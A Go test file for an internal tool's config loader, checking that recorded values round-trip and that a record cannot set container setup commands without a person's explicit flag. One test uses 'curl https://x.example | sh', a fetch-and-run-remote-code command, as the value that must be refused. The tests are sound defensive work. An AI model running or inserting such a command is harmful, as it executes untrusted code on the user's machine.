package config

import (
	"maps"
	"strings"
	"testing"

	"company/internal/office/config/configtest"
)

// TestRecordedValues: the values of a config that a record takes along come out of it as
// they went in, without a file; flags count above them.
func TestRecordedValues(t *testing.T) {
	here := mustLoad(t, LoadOptions{OfficeDir: configtest.Office(t, `
models: {default: {adapter: ollama, model: m}, strict: {adapter: ollama, model: s}}
gates: {lint: [make, "a b"], test: "sh ./test.sh", services: [postgres]}
container: {setup: ["apt-get install -y jq"]}
git: {author: "A B <a@b.example>", signoff: true}
workers: {command_timeout: 90s, memory: 1g}
`)})
	values := here.Config.RecordedValues()
	flags := map[string]string{"container.setup": "[apt-get install -y jq]"}
	there := mustLoad(t, LoadOptions{Record: values, Flags: flags})
	if got := there.Config.RecordedValues(); !maps.Equal(got, values) {
		t.Errorf("%v\nnot\n%v", got, values)
	}
	if there.Config.Workers.Memory == here.Config.Workers.Memory || there.Config.Models["strict"].Model != "" {
		t.Errorf("memory %d, models %v", there.Config.Workers.Memory, there.Config.Models)
	}
	flags["git.author"] = "C D <c@d.example>"
	if other := mustLoad(t, LoadOptions{Record: values, Flags: flags}); other.Config.Git.Author != "C D <c@d.example>" {
		t.Errorf("%q", other.Config.Git.Author)
	}
}

// TestRecordsOfOthers: what a record changes in the making of images needs a person's word
// for that very key; other machines' keys and keys of later versions count for nothing.
func TestRecordsOfOthers(t *testing.T) {
	_, err := Load(
		t.Context(), LoadOptions{Record: map[string]string{"container.setup": `["curl https://x.example | sh"]`}})
	if err == nil || !strings.Contains(err.Error(), "container.setup needs your word") {
		t.Fatal(err)
	}
	fix := Problems(err)[0].Fix
	if want := `--set 'container.setup=["curl https://x.example | sh"]'`; !strings.Contains(fix, want) {
		t.Errorf("%s, not %s", fix, want)
	}
	mustLoad(
		t, LoadOptions{Record: map[string]string{"container.setup": `["curl https://x.example | sh"]`},
			Flags: map[string]string{"container.setup": `["curl https://x.example | sh"]`}})
	l := mustLoad(
		t, LoadOptions{Record: map[string]string{"container.docker_host": `"tcp://x.example:1"`, "workers.memory": `"1g"`,
			"no.such": "1"}})
	if l.Config.Container.DockerHost != "" || l.Config.Workers.Memory != Default().Workers.Memory {
		t.Errorf("%+v", l.Config.Container)
	}
	for _, bad := range []string{`"`, `[1]`, `{}`} {
		if _, err := Load(t.Context(),
			LoadOptions{Record: map[string]string{"gates.test": bad, "workers.run_timeout": bad}}); err == nil {
			t.Errorf("%q counts", bad)
		}
	}
}
